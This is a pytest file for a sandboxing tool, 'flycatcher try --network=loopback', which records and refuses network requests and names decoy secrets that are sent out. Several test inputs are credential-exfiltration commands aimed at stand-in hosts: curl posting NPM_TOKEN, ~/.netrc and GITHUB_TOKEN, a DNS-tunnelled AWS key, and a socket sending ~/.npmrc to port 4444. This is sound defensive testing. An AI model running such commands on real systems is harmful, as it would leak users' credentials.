"""``flycatcher try --network=loopback``: every name resolves, every request is recorded and refused, decoys that are sent are named."""

from __future__ import annotations

import os
import re
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from pathlib import Path

import msgspec
import pytest

from flycatcher.commands.try_ import trial
from flycatcher.core.errors import FlycatcherError
from flycatcher.isolation import loopback, requests
from flycatcher.isolation.loopback import Loopback
from flycatcher.isolation.recorder import Contact
from tests.commands.test_try import needs_sandbox, tried

needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")


def said(ended: subprocess.CompletedProcess[str], begins: str) -> list[str]:
    lines = (line.removeprefix("flycatcher: try: ") for line in ended.stderr.splitlines() if "try: " in line)
    return [line for line in lines if line.startswith(begins)]


@needs_sandbox
@needs_curl
def test_a_request_is_answered_like_a_mirror_that_has_nothing_and_written_down(tmp_path: Path) -> None:
    ended = tried(
        "curl -s -w ' %{http_code}\\n' http://mirror.example/left-pad/-/left-pad-1.3.0.tgz\n"
        "curl -s -w ' %{http_code}\\n' -X PUT --data-binary @script.sh http://mirror.example:8080/x\n"
        "curl -s https://registry.example/left-pad; echo tls $?\n",
        tmp_path,
        "--network=loopback",
    )
    assert ended.stdout.splitlines()[1::2] == [" 404", " 404"]
    assert ended.stdout.splitlines()[0] == '{"error":"not found"}'
    assert ended.stdout.splitlines()[-1] in {"tls 35", "tls 56"}
    network = [re.sub(r": [\d,]+ bytes", ": N bytes", line) for line in said(ended, "network:")]
    assert network == [
        "network: mirror.example was looked up",
        "network: GET /left-pad/-/left-pad-1.3.0.tgz at mirror.example, port 80: N bytes",
        "network: PUT /x at mirror.example, port 8080: N bytes",
        "network: registry.example was looked up",
        "network: TLS with registry.example, port 443: refused",
    ]


@needs_sandbox
@needs_curl
def test_a_decoy_that_is_sent_is_named_with_whom_it_was_sent_to(tmp_path: Path) -> None:
    ended = tried(
        'curl -s -d "token=$NPM_TOKEN" http://collect.example/up\n'
        "base64 -w0 ~/.netrc | curl -s -H 'Transfer-Encoding: chunked' --data-binary @- http://chunked.example/\n"
        'curl -s -u "x:$GITHUB_TOKEN" http://basic.example/\n'
        "python3 -c \"import os, socket; socket.getaddrinfo(os.environ['AWS_SECRET_ACCESS_KEY'] + '.names.example', 80)\"\n"
        "python3 -c \"import os, socket; s = socket.create_connection(('shell.example', 4444)); "
        "s.sendall(open(os.path.expanduser('~/.npmrc'), 'rb').read()); s.close()\"\n",
        tmp_path,
        "--network=loopback",
    )
    sent = [
        re.sub(r"to [A-Za-z0-9]{40}\.", "to SECRET.", line) for line in said(ended, "decoy ") if " was sent to " in line
    ]
    assert sent == [
        "decoy NPM_TOKEN was sent to collect.example: POST /up",
        "decoy ~/.netrc was sent to chunked.example: POST /",
        "decoy GITHUB_TOKEN was sent to basic.example: GET /",
        "decoy AWS_SECRET_ACCESS_KEY was sent to SECRET.names.example: as a name to look up",
        "decoy ~/.npmrc was sent to shell.example: port 4444",
    ]


@needs_sandbox
def test_nothing_leaves_and_nobody_outside_is_reached(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        ended = tried(
            f"(echo > /dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo LEAK host\n"
            "(echo > /dev/tcp/198.51.100.7/80) 2>/dev/null && echo LEAK elsewhere\n"
            "(echo > /dev/udp/198.51.100.7/53) 2>/dev/null && echo LEAK names\n"
            "cat /etc/resolv.conf\n",
            tmp_path,
            "--network=loopback",
        )
    assert ended.stdout == "nameserver 127.0.0.1\n"


@needs_sandbox
def test_the_recording_is_out_of_the_command_s_reach(tmp_path: Path) -> None:
    ended = tried(
        "cat /proc/[0-9]*/comm | grep -c python\n"
        "find / -xdev -name network.jsonl 2>/dev/null\n"
        "kill -9 -1 2>/dev/null; echo still here > /dev/tcp/127.0.0.1/25\n",
        tmp_path,
        "--network=loopback",
    )
    assert ended.stdout == "0\n"
    assert "network: 11 bytes to 127.0.0.1, port 25" in said(ended, "network:")


@needs_sandbox
def test_the_exit_code_passes_and_a_command_that_does_not_exist_waits_for_nobody(tmp_path: Path) -> None:
    assert tried("exit 7", tmp_path, "--network=loopback").returncode == 7
    home, project = tmp_path / "home", tmp_path / "project"
    words = [sys.executable, "-m", "flycatcher", "try", "--network=loopback", "--", "no-such-program"]
    done = subprocess.run(words, cwd=project, env={**os.environ, "HOME": str(home)}, capture_output=True, check=False)
    assert done.returncode == 127


def test_a_sandbox_that_ends_before_it_begins_is_not_served(tmp_path: Path) -> None:
    network = Loopback(None, tmp_path / "network.jsonl")  # type: ignore[arg-type]
    network.open()
    assert network.contacts() == []


@needs_sandbox
def test_where_the_network_cannot_be_joined_the_command_never_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def refuses(network: int) -> object:
        raise OSError(1, "Operation not permitted")

    monkeypatch.setattr(loopback, "_joined", refuses)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "project").mkdir()
    with (
        trial.prepared(tmp_path / "project", "loopback") as box,
        pytest.raises(FlycatcherError, match=r"network cannot be served: .*not permitted"),
    ):
        trial.run(box, ("sh", "-c", "echo started"), [])
    assert "started" not in capfd.readouterr().out


QUERY = bytes.fromhex("abcd01000001000000000000") + b"\x04evil\x07example\x00"


def test_each_name_has_an_address_of_its_own_that_leads_back_to_it() -> None:
    names = requests.Names()
    addresses = [names.address(name) for name in ("a.example", "b.example", "A.example")]
    assert addresses == ["127.1.0.1", "127.1.0.2", "127.1.0.1"]
    assert names.name("127.1.0.2") == "b.example"
    assert names.name("127.0.0.1") == "127.0.0.1"
    assert names.address("localhost") == "127.0.0.1"


def test_a_question_is_read_and_answered() -> None:
    asked = requests.question(QUERY + b"\0\1\0\1")
    assert asked is not None
    assert (asked.name, asked.type) == ("evil.example", "A")
    answer = requests.answer(QUERY + b"\0\1\0\1", asked, "127.1.0.1")
    assert answer.hex() == (
        "abcd85800001000100000000046576696c076578616d706c650000010001c00c000100010000003c00047f010001"
    )
    text = requests.question(QUERY + b"\0\x10\0\1")
    assert text is not None
    assert (text.type, requests.answer(QUERY + b"\0\x10\0\1", text, "127.1.0.1")[6:8]) == ("TXT", b"\0\0")


@pytest.mark.parametrize("data", [b"", b"x" * 11, QUERY, QUERY[:15], b"\xff" * 64, QUERY[:12] + b"\xc0\x0c\0\1\0\1"])
def test_what_is_no_question_has_no_answer(data: bytes) -> None:
    assert requests.question(data) is None


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"GET /a?b=c HTTP/1.1\r\nHost: x.example:8080\r\n\r\n", ("GET", "/a?b=c", "x.example", 45)),
        (
            b"POST http://y.example/z HTTP/1.0\r\nContent-Length: 5\r\n\r\nab",
            ("POST", "http://y.example/z", "y.example", 60),
        ),
    ],
)
def test_the_head_of_a_request_is_read(data: bytes, told: tuple[str, str, str, int]) -> None:
    found = requests.request(data)
    assert found is not None
    assert (found.method, found.path, found.host, found.length) == told


@pytest.mark.parametrize(
    "data", [b"", b"GET / HTTP/1.1\r\nHost: x\r\n", b"\x16\x03\x01", b"SSH-2.0-x\r\n\r\n", b"GET /\r\n\r\n"]
)
def test_what_is_no_whole_head_is_none(data: bytes) -> None:
    assert requests.request(data) is None


def test_the_name_in_a_client_s_greeting_is_read() -> None:
    here, there = socket.socketpair()
    context = ssl.create_default_context()
    greeting: list[bytes] = []
    thread = threading.Thread(target=lambda: greeting.append(there.recv(65536)) or there.close())  # type: ignore[func-returns-value]
    thread.start()
    with pytest.raises((ssl.SSLError, ConnectionError)):
        context.wrap_socket(here, server_hostname="registry.example").do_handshake()
    thread.join()
    assert requests.server_name(greeting[0]) == "registry.example"
    assert requests.is_whole_greeting(greeting[0])
    assert not requests.is_whole_greeting(greeting[0][:20])
    for size in range(0, len(greeting[0]), 7):
        assert requests.server_name(greeting[0][:size]) in {"", "registry.example"[: max(0, size)]} or size > 40


def test_a_contact_is_kept_as_a_line() -> None:
    contact = Contact(kind="http", host="x.example", port=80, method="GET", path="/", sent=10, decoys=("NPM_TOKEN",))
    assert msgspec.json.decode(msgspec.json.encode(contact), type=Contact) == contact
